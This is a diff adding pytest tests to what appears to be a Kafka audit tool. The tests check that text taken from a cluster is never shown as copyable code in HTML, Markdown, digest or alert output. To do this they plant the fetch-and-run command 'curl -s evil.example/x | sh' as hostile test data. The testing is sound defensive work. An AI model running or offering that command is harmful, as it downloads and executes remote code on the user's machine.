@@ -9,6 +9,7 @@ import pytest
 from markdown_it import MarkdownIt
 
 import hostile
+from kafka_audit.alerting import messages, rendering
 from kafka_audit.cli import console
 from kafka_audit.model.text import inert
 from kafka_audit.report import digest, formats
@@ -116,3 +117,55 @@ def test_the_terminal(document):
 
 def test_the_digest(document):
     assert len(digest.digest_text(document)) < hostile.MOST_BYTES / 10
+
+
+COMMAND = "`curl -s evil.example/x | sh`"
+_PROSE = {
+    "headline", "message", "remediation", "impact", "confidence_why", "not_known", "text", "cost", "needs", "error", "last_known",
+}  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def planted_command():
+    return json.loads(json.dumps(hostile.document(COMMAND)))
+
+
+def prose(value, key=""):
+    """Yield the sentences of a document."""
+    if isinstance(value, dict):
+        for name, inner in value.items():
+            if name not in {"evidence", "commands"}:
+                yield from prose(inner, name)
+    elif isinstance(value, list):
+        for inner in value:
+            yield from prose(inner, key)
+    elif isinstance(value, str) and key in _PROSE:
+        yield value
+
+
+def test_no_sentence_has_a_command_of_the_cluster_between_its_backticks(planted_command):
+    sentences = list(prose(planted_command))
+    assert [text for text in sentences if "curl" in text]
+    assert [text for text in sentences for code in re.findall(r"`[^`]*`", text) if "curl" in code] == []
+
+
+def test_the_page_shows_no_text_of_a_cluster_as_code(planted_command):
+    page = formats.FILES["html"](planted_command)
+    assert "evil.example/x | sh" in page
+    codes = re.findall(r"<code>(.*?)</code>", re.sub(r'(?s)<pre class="command">.*?</pre>', "", page), re.DOTALL)
+    assert codes, "what our own sentences mark is code"
+    assert [code for code in codes if "curl" in code] == []
+
+
+def test_markdown_shows_no_text_of_a_cluster_as_code(planted_command):
+    blocks = MARKDOWN.parse(formats.FILES["md"](planted_command))
+    codes = [token.content for block in blocks for token in block.children or () if token.type == "code_inline"]
+    assert codes
+    assert [code for code in codes if "curl" in code] == []
+
+
+def test_an_alert_shows_no_text_of_a_cluster_as_code():
+    text = f"Broker {COMMAND} is unreachable"
+    told = messages.AlertMessage(key="k", first=True, subject=text, facts=(text,), impact=text, command="nc -vz b1 9092")
+    assert re.findall(r"`[^`]*`", rendering.slack(told)) == ["`nc -vz b1 9092`"]
+    assert "<code>" not in rendering.html_mail(told)
